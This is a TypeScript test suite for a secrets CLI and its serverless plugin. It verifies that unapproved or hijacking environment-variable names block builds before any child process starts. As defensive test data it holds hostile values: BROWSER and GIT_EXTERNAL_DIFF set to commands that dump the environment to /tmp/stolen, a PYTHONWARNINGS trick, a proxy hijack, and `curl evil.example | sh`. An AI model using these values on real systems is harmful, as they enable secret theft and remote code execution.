/**
 * A writer holds no key, so the build must not take names from them: the hijacks a reviewer made with
 * `set` alone (PYTHONWARNINGS, BROWSER, GIT_EXTERNAL_DIFF, serverless' own `proxy`), by hand-made
 * entries, and names no deny list knows, all fail closed before any child starts, through the real CLI
 * and the real `serverless package`.
 */
import * as fs from 'node:fs';
import * as path from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { Sealer } from '../../src/core/crypto.js';
import { valueAad } from '../../src/stages/sealing.js';
import { FRAMEWORKS, packageService, prepareService, type SlsService } from '../support/sls-service.js';
import { readStageDoc, restoreStage, snapshotStage, type StageDoc, writeStageDoc } from '../support/stage-files.js';
import { CANARY, expectNoCanary, readStageText, secureWorkspace, type SecureWorkspace } from './support.js';

let ws: SecureWorkspace;
let approved: string;
const HIJACKS: Array<[string, string]> = [
  ['PYTHONWARNINGS', 'all:0:antigravity.x:0:0'],
  ['BROWSER', 'sh -c "env > /tmp/stolen"'],
  ['GIT_EXTERNAL_DIFF', 'sh -c "env > /tmp/stolen"'],
  ['proxy', 'http://127.0.0.1:3128'],
];

/** The writer: no key anywhere, only the repo. */
const writer = () => ({ XDG_CONFIG_HOME: path.join(ws.root, 'writer-config') });
/** CI: the key in STAGE_SECRETS_KEY_DEV, no key file. */
const ci = () => ({ XDG_CONFIG_HOME: path.join(ws.root, 'ci-config'), STAGE_SECRETS_KEY_DEV: ws.key });

/**
 * What a hostile pull request can do without any key: seal a value to the public key and add the entry by
 * hand, as its own entry file `secrets/dev/<NAME>.json` sealed to the header's key (a v3 stage).
 */
function handAdd(secretsDir: string, name: string, value: string, extra: StageDoc = {}): void {
  const stage = readStageDoc(secretsDir, 'dev');
  expect(stage.version).toBe(3);
  const sealed = new Sealer(Buffer.from(stage.publicKey, 'base64')).seal(
    valueAad(stage as never, name, 'string'),
    value,
  );
  stage.secrets[name] = { type: 'string', updated: '2026-11-30T10:00:00.000Z', ...sealed, ...extra };
  writeStageDoc(secretsDir, 'dev', stage);
  expect(fs.existsSync(path.join(secretsDir, 'dev', `${name}.json`))).toBe(true);
}
const wsSecrets = () => path.join(ws.dir, 'secrets');

/** A run whose child would leave a marker file: the marker tells whether the child started at all. */
async function runChild(env: NodeJS.ProcessEnv) {
  const marker = path.join(ws.root, 'child-ran');
  fs.rmSync(marker, { force: true });
  const r = await ws.run(
    [
      'run',
      '--stage',
      'dev',
      '--',
      process.execPath,
      '-e',
      `require('fs').writeFileSync(${JSON.stringify(marker)}, 'x')`,
    ],
    { env },
  );
  return { ...r, childRan: fs.existsSync(marker) };
}

beforeAll(async () => {
  ws = await secureWorkspace('approval-app');
  approved = readStageText(ws);
});

afterAll(() => ws.cleanup());
afterEach(() => ws.restore('dev', approved));

describe('names a writer adds without the key', () => {
  it("the reviewer's hijacks are refused by set (the deny list, the second wall), the file unchanged", async () => {
    for (const [name, value] of HIJACKS) {
      const r = await ws.run(['set', '--stage', 'dev', name], { input: value, env: writer() });
      expect(r.code, name).toBe(1);
      expect(r.stderr).toContain(name);
      expect(r.stderr).not.toContain(value);
    }
    expect(readStageText(ws)).toBe(approved);
  });

  it('the same hijacks added by hand: run starts nothing, export prints nothing, verify says why (exit 2)', async () => {
    for (const [name, value] of HIJACKS) {
      ws.restore('dev', approved);
      handAdd(wsSecrets(), name, value);
      const run = await runChild(ci());
      expect(run.code, `${name}: ${run.stderr}`).toBe(2);
      expect(run.childRan).toBe(false);
      expect(run.stderr).toContain(name);
      expect(run.stderr).not.toContain(value);
      const exported = await ws.run(['export', '--stage', 'dev', '--format', 'json'], { env: ci() });
      expect(exported.code).toBe(2);
      expect(exported.stdout).toBe('');
      expectNoCanary(exported.stdout + exported.stderr, `export with ${name}`);
    }
  });

  it('a name no deny list knows is pending: the build refuses the stage, names it and the approve command', async () => {
    const set = await ws.run(['set', '--stage', 'dev', 'EVIL_HOOK'], {
      input: 'curl evil.example | sh',
      env: writer(),
    });
    expect(set.code).toBe(0);
    expect(set.stderr).toContain('pending approval: EVIL_HOOK');
    const run = await runChild(ci());
    expect(run.code).toBe(2);
    expect(run.childRan).toBe(false);
    expect(run.stderr).toContain('stage dev has names no key holder approved: EVIL_HOOK');
    expect(run.stderr).toContain('stage-secrets approve --stage dev EVIL_HOOK');
    expect(run.stderr + run.stdout).not.toContain('curl evil.example');
    const exported = await ws.run(['export', '--stage', 'dev', '--format', 'dotenv'], { env: ci() });
    expect(exported.code).toBe(2);
    expect(exported.stdout).toBe('');

    const verify = await ws.run(['verify', '--stage', 'dev'], { env: ci() });
    expect(verify.code).toBe(2);
    expect(verify.stdout).toContain('pending approval: EVIL_HOOK;');
    const list = await ws.run(['list', '--stage', 'dev', '--json'], { env: writer() });
    expect(JSON.parse(list.stdout)).toContainEqual(expect.objectContaining({ name: 'EVIL_HOOK', approved: false }));

    // a writer cannot approve; a key holder can, after seeing what is pending
    const denied = await ws.run(['approve', '--stage', 'dev', 'EVIL_HOOK'], { env: writer() });
    expect(denied.code).toBe(3);
    const approve = await ws.run(['approve', '--stage', 'dev', 'EVIL_HOOK'], { env: ci() });
    expect(approve.code, approve.stderr).toBe(0);
    expect(approve.stderr).toMatch(/pending in stage dev:\n {2}EVIL_HOOK {2}\(string, set \d{4}-\d\d-\d\dT/);
    expect(approve.stderr).toContain('approved EVIL_HOOK');
    const after = await runChild(ci());
    expect(after.code, after.stderr).toBe(0);
    expect(after.childRan).toBe(true);
  });

  it('an approval copied from another entry does not carry over: the tag is bound to the name', async () => {
    const stage = JSON.parse(approved) as StageDoc;
    handAdd(wsSecrets(), 'COPIED_TAG', 'x-x-x-x', { approved: stage.secrets.CANARY_TOKEN!.approved });
    const run = await runChild(ci());
    expect(run.code).toBe(2);
    expect(run.stderr).toContain('no key holder approved: COPIED_TAG');
  });

  it('a writer can replace the value of an approved name: the residual risk SECURITY.md states', async () => {
    const set = await ws.run(['set', '--stage', 'dev', 'CANARY_TOKEN'], {
      input: 'replaced-by-a-writer',
      env: writer(),
    });
    expect(set.code).toBe(0);
    expect(set.stderr).not.toContain('pending');
    const r = await ws.run(
      ['run', '--stage', 'dev', '--no-mask', '--', process.execPath, '-e', 'console.log(process.env.CANARY_TOKEN)'],
      { env: ci() },
    );
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toBe('replaced-by-a-writer\n');
  });
});

describe('the open policy', () => {
  it('a key holder opens a stage: new names need no approval; a hand-made policy fails closed', async () => {
    const open = await ws.run(['approve', '--stage', 'dev', '--open'], { env: ci() });
    expect(open.code, open.stderr).toBe(0);
    expect(open.stderr).toContain('is now open');
    expect((await ws.run(['set', '--stage', 'dev', 'TRUSTED_WRITER'], { input: 'fine', env: writer() })).code).toBe(0);
    expect((await runChild(ci())).code).toBe(0);

    // the same policy written by hand, with a tag a writer can make up
    ws.restore('dev', approved);
    const stage = JSON.parse(approved) as StageDoc;
    stage.policy = { mode: 'open', tag: Buffer.alloc(32, 1).toString('base64') };
    ws.restore('dev', JSON.stringify(stage)); // the header carries the policy, the entries unchanged
    handAdd(wsSecrets(), 'SNEAKY', 'value-x');
    const run = await runChild(ci());
    expect(run.code).toBe(2);
    expect(run.childRan).toBe(false);
    expect(run.stderr).toMatch(/policy "open", but no key holder set it/);
  });
});

describe('keys and formats', () => {
  it('rotate keeps approvals under the new key, and a pending name stays pending', async () => {
    expect((await ws.run(['set', '--stage', 'dev', 'LATE_NAME'], { input: 'late', env: writer() })).code).toBe(0);
    const rotate = await ws.run(['rotate', '--stage', 'dev'], { env: ci() });
    expect(rotate.code, rotate.stderr).toBe(0);
    const verify = await ws.run(['verify', '--stage', 'dev', '--json'], { env: ci() });
    expect(JSON.parse(verify.stdout)).toMatchObject({ pending: ['LATE_NAME'], failed: [] });
    expect((await ws.run(['rm', '--stage', 'dev', 'LATE_NAME'])).code).toBe(0);
    expect((await runChild(ci())).code).toBe(0);
  });

  it('a stage file from before name approval gets a message that says what to run', async () => {
    // an old one-file stage (format version 1: no approval tags, no entry files), as such repos still hold
    const stage = JSON.parse(approved) as StageDoc;
    for (const entry of Object.values(stage.secrets as Record<string, StageDoc>)) {
      delete entry.approved;
      delete entry.sealedTo;
    }
    ws.restore('dev', JSON.stringify({ ...stage, version: 1 }, null, 2));
    expect(fs.existsSync(path.join(wsSecrets(), 'dev'))).toBe(false);
    const run = await runChild(ci());
    expect(run.code).toBe(2);
    expect(run.stderr).toContain('written before name approval existed (format version 1)');
    expect(run.stderr).toContain('stage-secrets approve --stage dev CANARY_TOKEN CONFIG PORT');
    const approve = await ws.run(['approve', '--stage', 'dev'], { env: ci() });
    expect(approve.code, approve.stderr).toBe(0);
    expect(readStageText(ws)).toContain('"version": 2');
    expect((await runChild(ci())).code).toBe(0);
  });
});

describe('the plugin (serverless v3)', () => {
  let svc: SlsService | undefined;
  afterAll(() => svc?.ws.cleanup());

  it('refuses to package a stage with a pending name, or with a hand-made `proxy`, and writes no value anywhere', async () => {
    const fw = FRAMEWORKS.find((f) => f.name === 'serverless')!;
    svc = await prepareService('sls-per-function', {
      stage: 'dev',
      secrets: { API_KEY: CANARY },
      secretsDir: 'config/secrets',
    });
    const secretsDir = path.join(svc.dir, 'config', 'secrets');
    const clean = snapshotStage(secretsDir, 'dev');
    for (const [name, value] of [
      ['EVIL_HOOK', 'x-evil-x'],
      ['proxy', 'http://127.0.0.1:3128'],
    ] as const) {
      restoreStage(secretsDir, 'dev', clean);
      handAdd(secretsDir, name, value);
      const { result, template } = await packageService(fw, svc);
      expect(result.code, name).not.toBe(0);
      expect(template).toBeUndefined();
      expect(result.output).toContain(name);
      expect(result.output).not.toContain(value);
      expectNoCanary(result.output, `package with ${name}`);
      expect(fs.existsSync(path.join(svc.dir, '.serverless', 'cloudformation-template-update-stack.json'))).toBe(false);
    }
  });
});
